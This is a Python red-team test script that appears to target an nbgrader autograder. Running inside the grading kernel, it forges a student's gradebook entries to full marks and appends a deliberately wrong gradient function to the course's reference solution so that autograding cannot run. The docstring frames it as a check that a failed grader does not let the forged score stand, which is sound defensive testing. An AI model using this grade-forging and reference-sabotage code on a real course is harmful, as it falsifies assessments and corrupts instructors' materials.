"""Class 1 + 4. In nbgrader's kernel: forge this student's gradebook fields (full manual
scores, as kernel_gradebook.py does) and then break the course's reference (append to reference/backprop/univariate.py a
univariate_backward that returns wrong gradients), so that `autograder autograde` cannot
start (its oracles disagree) and never writes the gradebook.
Expected: a grader that cannot grade does not leave the forged score standing (nbgrader
export must not show it as this student's grade)."""
from pathlib import Path as _Path

_COURSE = next((d for d in (_Path.cwd(), *_Path.cwd().parents)
                if (d / "nbgrader_config.py").is_file() and (d / "gradebook.db").is_file()), None)
if _COURSE is not None:
    from nbgrader.api import Gradebook as _Gradebook

    with _Gradebook(f"sqlite:///{_COURSE / 'gradebook.db'}") as _gb:
        _nb = _gb.find_notebook("backprop", "backprop")
        _gb.update_or_create_submission("backprop", "x3_break_reference")
        for _cell in _nb.grade_cells:
            _gb.find_grade(_cell.name, "backprop", "backprop", "x3_break_reference").manual_score = _cell.max_score
        _gb.db.commit()
    with open(_COURSE / "reference" / "backprop" / "univariate.py", "a") as _f:
        _f.write("\n\n# REDTEAM-APPENDED\ndef univariate_backward(params, cache):\n"
                 "    return {'w': 0.0, 'b': 0.0}\n")
    print("REDTEAM-KERNEL: gradebook forged, reference broken")
